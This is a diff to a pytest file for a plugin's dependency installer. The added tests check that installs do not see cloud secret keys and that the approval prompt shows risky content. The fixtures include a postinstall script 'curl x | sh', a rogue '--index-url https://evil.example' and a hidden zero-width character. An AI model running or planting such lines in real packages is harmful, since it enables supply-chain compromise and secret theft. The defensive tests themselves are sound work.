@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import zipfile
 from pathlib import Path
@@ -12,6 +13,7 @@ import pytest
 
 from fc_async_plugin import PluginError, template
 from fc_async_plugin.dev import layers as service_layers
+from fc_async_plugin.dev import programs
 from fc_async_plugin.dev.answers import Answers
 from fc_async_plugin.dev.installing import (
     Installer,
@@ -476,7 +478,7 @@ def test_a_program_without_requirements_gets_those_of_its_project(
     assert packages.further == ["left-pad[x]>=1"]
 
 
-def test_nothing_is_installed_before_it_is_allowed_and_then_with_each_change(
+def test_nothing_is_installed_before_it_is_allowed_and_each_change_is_asked_for(
     project: template.Project, packages: Packages, asking: Asking, tmp_path: Path
 ):
     (tmp_path / "mailer" / "package.json").write_text('{"dependencies": {"left-pad": "1"}}')
@@ -493,8 +495,45 @@ def test_nothing_is_installed_before_it_is_allowed_and_then_with_each_change(
     assert packages.installed == ["left-pad==1\n"]
     assert packages.folders == [tmp_path / "mailer"]
     (tmp_path / "orders" / "requirements.txt").write_text("left-pad==2\n")
+    asking.said.clear()
+    asking.installer(project)
+    assert packages.installed == ["left-pad==1\n"]
+    assert asking.allow(project) == wishes
     asking.installer(project)
     assert packages.installed == ["left-pad==1\n", "left-pad==2\n"]
+
+
+def test_an_installation_sees_no_key_of_the_cloud(monkeypatch: pytest.MonkeyPatch):
+    hidden = (
+        "ALIBABA_CLOUD_ACCESS_KEY_SECRET",
+        "ALICLOUD_SECRET_KEY",
+        "AccessKeySecret",
+        "FC_ASYNC_TOKEN",
+        "AWS_SECRET_ACCESS_KEY",
+        "GITHUB_TOKEN",
+    )
+    needed = ("PIP_INDEX_URL", "NPM_TOKEN", "FC_ASYNC_ENDPOINT")
+    for name in (*hidden, *needed):
+        monkeypatch.setenv(name, f"value of {name}")
+    seen = programs.run("env").output
+    assert [name for name in (*hidden, *needed) if f"value of {name}" in seen] == [*needed]
+
+
+def test_the_question_shows_the_packages_and_the_scripts_of_an_installation(
+    project: template.Project, asking: Asking, tmp_path: Path
+):
+    package = {"dependencies": {"left-pad": "1"}, "scripts": {"postinstall": "curl x | sh"}}
+    (tmp_path / "mailer" / "package.json").write_text(json.dumps(package))
+    text = "--index-url https://evil.example\n# a comment\nleft-pad==1\u200b\n"
+    (tmp_path / "orders" / "requirements.txt").write_text(text)
+    shown = [line for one in asking.installer.due([project]) for line in one.wish.question]
+    assert shown == [
+        "orders: install requirements.txt  (in orders)",
+        "  --index-url https://evil.example",
+        r"  left-pad==1\u200b",
+        "mailer: install package.json  (in mailer)",
+        "  package.json, postinstall: curl x | sh",
+    ]
 
 
 def test_what_a_build_may_install_is_asked_for_after_it(project: template.Project, asking: Asking):
